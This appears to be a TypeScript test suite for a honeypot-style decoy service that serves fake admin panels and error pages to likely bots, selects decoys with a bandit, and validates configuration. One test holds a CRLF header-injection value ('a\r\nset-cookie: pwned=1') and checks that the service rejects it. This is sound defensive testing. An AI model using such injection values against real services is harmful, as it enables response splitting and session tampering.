  // proxy must serve them with; a status or header the service would refuse to serve is INVALID_ARGUMENT naming the
  // proto field (the header by name) and registers nothing.
  it('registers and lists decoys with their status and headers', async () => {
    const id = `fake-admin-${randomUUID().slice(0, 8)}`;
    const decoy: ProtoDecoy = {
      id,
      name: 'Fake admin panel',
      kind: 'admin_login',
      tiers: [ThreatTier.THREAT_TIER_LIKELY_BOT, ThreatTier.THREAT_TIER_ATTACK],
      contentType: 'text/html',
      contentTemplate: '<form action="/admin/login"><input name="user"><input name="pass" type="password"></form>',
      carriesHoneytoken: false,
      carriesCredentials: false,
      builtin: false,
      createdAt: undefined,
      status: 401,
      headers: { server: 'Jetty(10.0.18)', 'www-authenticate': 'Basic realm="admin"' },
    };
    const register = (d: ProtoDecoy) =>
      new Promise<{ error: unknown; response?: RegisterDecoyResponse }>((resolve) =>
        a.registerDecoy({ decoy: d, idempotencyKey: '' }, bearer(testKeys.admin), (error, response) => resolve({ error, response })),
      );
    const registered = await register(decoy);
    expect(registered.error).to.equal(null);
    expect(registered.response!.decoy).to.deep.include({ status: 401, headers: decoy.headers });

    const redis = connectTestRedis();
    try {
      const before = await dumpPrefix(redis, prefix);
      const refusals: [ProtoDecoy, string][] = [
        [{ ...decoy, id: `${id}-2`, status: 700 }, 'decoy.status'],
        [{ ...decoy, id: `${id}-3`, headers: { 'x-evil': 'a\r\nset-cookie: pwned=1' } }, 'decoy.headers.x-evil'],
        [{ ...decoy, id: `${id}-4`, headers: { 'bad header': 'x' } }, 'decoy.headers'],
      ];
      for (const [bad, field] of refusals) {
        const details = errorDetails((await register(bad)).error);
        expect(details, field).to.deep.include({ code: grpcStatus.INVALID_ARGUMENT });
        expect(details?.fieldViolations.map((v) => v.field)).to.deep.equal([field]);
      }
      expect(await dumpPrefix(redis, prefix)).to.deep.equal(before);
    } finally {
      await redis.quit();
    }

    const seen: ProtoDecoy[] = [];
    let token = '';
    for (let i = 0; i < 50; i++) {
      const page = await new Promise<ListDecoysResponse>((resolve, reject) =>
        b.listDecoys({ pageSize: 3, pageToken: token, tier: ThreatTier.THREAT_TIER_ATTACK }, bearer(testKeys.camouflage), (e, r) => (e ? reject(e) : resolve(r!))),
      );
      expect(page.decoys.length).to.be.at.most(3);
      seen.push(...page.decoys);
      token = page.nextPageToken;
      if (token === '') break;
    }
    expect(seen.find((d) => d.id === id)).to.deep.include({ status: 401, headers: decoy.headers });
    // Built-ins too: the nginx 404 page is served as a 404 with nginx's banner.
    const all = await new Promise<ListDecoysResponse>((resolve, reject) =>
      b.listDecoys({ pageSize: 200, pageToken: '', tier: 0 }, bearer(testKeys.camouflage), (e, r) => (e ? reject(e) : resolve(r!))),
    );
    expect(all.decoys.find((d) => d.id === 'nginx-404')).to.deep.include({ status: 404, headers: { server: 'nginx/1.24.0' } });
    expect(new Set(seen.map((d) => d.id)).size).to.equal(seen.length);
    const bad = await new Promise<unknown>((resolve) =>
      b.listDecoys({ pageSize: 3, pageToken: 'garbage', tier: 0 }, bearer(testKeys.camouflage), (e) => resolve(e)),
    );
    expect(errorDetails(bad)?.code).to.equal(grpcStatus.INVALID_ARGUMENT);
  });

  // Assess answers with everything a proxy needs to serve the decoy: the rendered body, and the status, content type and
  // headers of the catalog entry it chose.
  it('answers Assess with the decoy status and headers to serve', async () => {
    const served = new Map<string, ProtoDecoy>();
    for (let i = 0; i < 12; i++) {
      const { response } = await assess(a, request({ path: '/.env', userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)', headers: {} }));
      served.set(response!.decoy!.id, response!.decoy!);
    }
    let builtInsChecked = 0;
    for (const [id, decoy] of served) {
      const builtIn = BUILT_IN_DECOYS.find((candidate) => candidate.id === id);
      if (builtIn === undefined) continue; // a decoy another test registered
      expect(decoy, id).to.deep.include({ status: builtIn.status, contentType: builtIn.contentType, headers: builtIn.headers });
      expect(decoy.status, id).to.be.within(100, 599);
      expect(Object.keys(decoy.headers), id).to.include('server');
      builtInsChecked += 1;
    }
    // Twelve selections: the bandit plays every arm of the tier, built-in ones among them, so something was checked.
    expect(builtInsChecked, 'built-in decoys served and checked').to.be.greaterThan(0);
    const browsing = (await assess(a, request({ path: '/products/42' }))).response!;
    const browsingBuiltIn = BUILT_IN_DECOYS.find((candidate) => candidate.id === browsing.decoy!.id);
    expect(browsingBuiltIn, `browsing decoy ${browsing.decoy!.id} is a built-in one`).to.not.equal(undefined);
    expect(browsing.decoy!.status).to.equal(browsingBuiltIn!.status);
  });

  // selection.eligible_arms is the number of decoys the bandit chose among for the request's tier: what
  // ListDecoys shows for that tier, and one more once a decoy for the tier is registered.
  it('reports the eligible arms of the chosen tier, registered decoys included', async () => {
    // Its own key prefix: the shared one holds decoys other tests register.
    const fresh = await startTestService(camouflageService, { CAMOUFLAGE_REDIS_PREFIX: `${prefix}arms:`, MIGRATE_ON_START: 'false' });
    const client = new CamouflageServiceClient(address(fresh), insecure);
    try {
      const listed = async (tier: ThreatTier) => {
        const page = await new Promise<{ decoys: unknown[]; nextPageToken: string }>((resolve, reject) =>
          client.listDecoys({ pageSize: 100, pageToken: '', tier }, bearer(testKeys.camouflage), (e, r) => (e ? reject(e) : resolve(r!))),
        );
        expect(page.nextPageToken).to.equal('');
        return page.decoys.length;
      };
      const scanner = () => request({ path: '/.env', userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)', headers: {} });
      const attackArms = await listed(ThreatTier.THREAT_TIER_ATTACK);
      expect(attackArms).to.be.greaterThan(1);
      const attack = (await assess(client, scanner())).response!;
      expect(attack.tier).to.equal(ThreatTier.THREAT_TIER_ATTACK);
      expect(attack.selection!.eligibleArms).to.equal(attackArms);
      const benign = (await assess(client, request({ path: '/products/42' }))).response!;
      expect(benign.tier).to.equal(ThreatTier.THREAT_TIER_BENIGN);
      expect(benign.selection!.eligibleArms).to.equal(await listed(ThreatTier.THREAT_TIER_BENIGN));

      expect(await registerPanel(client, `arm-${randomUUID().slice(0, 8)}`)).to.equal(null);
      expect((await assess(client, scanner())).response!.selection!.eligibleArms).to.equal(attackArms + 1);
      // The stream answers with the same selection info.
      const { answers, ended } = assessStream(client, [{ requestId: 'arms', request: scanner() }]);
      expect((await ended).error).to.equal(null);
      expect((answers[0]!.result as { value: AssessResponse }).value.selection!.eligibleArms).to.equal(attackArms + 1);
    } finally {
      client.close();
      await fresh.shutdown();
    }
  });

  // The engine's own reasons reach the client as they are thrown: a second registration of an id (custom or
  // built in) is ALREADY_EXISTS / DECOY_ALREADY_EXISTS naming decoy.id, the proto path, with the id in ErrorInfo.
  it('refuses a duplicate decoy with DECOY_ALREADY_EXISTS on decoy.id', async () => {
    const id = `dup-${randomUUID().slice(0, 8)}`;
    expect(await registerPanel(a, id)).to.equal(null);
    for (const taken of [id, 'nginx-404']) {
      const details = errorDetails(await registerPanel(a, taken));
      expect(details, taken).to.deep.include({ code: grpcStatus.ALREADY_EXISTS, reason: 'DECOY_ALREADY_EXISTS' });
      expect(details?.fieldViolations.map((v) => v.field)).to.deep.equal(['decoy.id']);
      expect(details?.metadata).to.deep.equal({ decoyId: taken, field: 'decoy.id' });
    }
  });
});

describe('camouflage configuration', () => {
  // A decision TTL the engine would refuse is refused by the config, naming the variable, before anything starts.
  it('refuses a decision TTL beyond the engine maximum', async () => {
    for (const value of [String(DECISION_TTL_SECONDS_MAX + 1), String(30 * 86_400), '59']) {
      let error: unknown;
      const started = await startTestService(camouflageService, { CAMOUFLAGE_DECISION_TTL_SECONDS: value, MIGRATE_ON_START: 'false' }).catch((e: unknown) => {
        error = e;
        return undefined;
      });
      await started?.shutdown();
      expect(error, value).to.be.instanceOf(ConfigError);
      expect((error as ConfigError).variable).to.equal('CAMOUFLAGE_DECISION_TTL_SECONDS');
    }
  });

  // The config refuses a key prefix the engine would refuse (spaces, non-ASCII, too long), naming the variable,
  // instead of failing later inside the engine.
  it('refuses a Redis key prefix the engine cannot use', async () => {
    for (const value of ['has space:', 'préfixe:', 'x'.repeat(65)]) {
      let error: unknown;
      const started = await startTestService(camouflageService, { CAMOUFLAGE_REDIS_PREFIX: value, MIGRATE_ON_START: 'false' }).catch((e: unknown) => {
        error = e;
        return undefined;
      });
      await started?.shutdown();
      expect(error, value).to.be.instanceOf(ConfigError);
      expect((error as ConfigError).variable).to.equal('CAMOUFLAGE_REDIS_PREFIX');
    }
  });
});

describe('camouflage on the in-process store (npm start without REDIS_URL)', () => {
  // The dev default has no Redis server: the Lua scripts must run on the in-process store too.
  it('assesses and learns without a Redis server', async () => {
    const service = await startTestService(camouflageService, { REDIS_URL: '', MIGRATE_ON_START: 'false' }, { redisStandIn: createRedisStandIn });
    const client = new CamouflageServiceClient(address(service), insecure);
    try {
      const assessed = await new Promise<AssessResponse>((resolve, reject) =>
        client.assess(request({ path: '/.env', userAgent: 'sqlmap/1.7', headers: {} }), bearer(testKeys.camouflage), (e, r) => (e ? reject(e) : resolve(r!))),
      );
      expect(assessed.tier).to.equal(ThreatTier.THREAT_TIER_ATTACK);
      const reward = await new Promise<number>((resolve, reject) =>
        client.recordOutcome(
          { decisionId: assessed.decisionId, engagement: { interactions: 5, dwell: { seconds: 30n, nanos: 0 }, honeytokenUsed: false, credentialsSubmitted: true, reachedRealAsset: false }, idempotencyKey: '' },
          bearer(testKeys.camouflage),
          (e, r) => (e ? reject(e) : resolve(r!.reward)),
        ),
      );
      expect(reward).to.be.greaterThan(0.3);
    } finally {
      client.close();
      await service.shutdown();
    }
  });
});
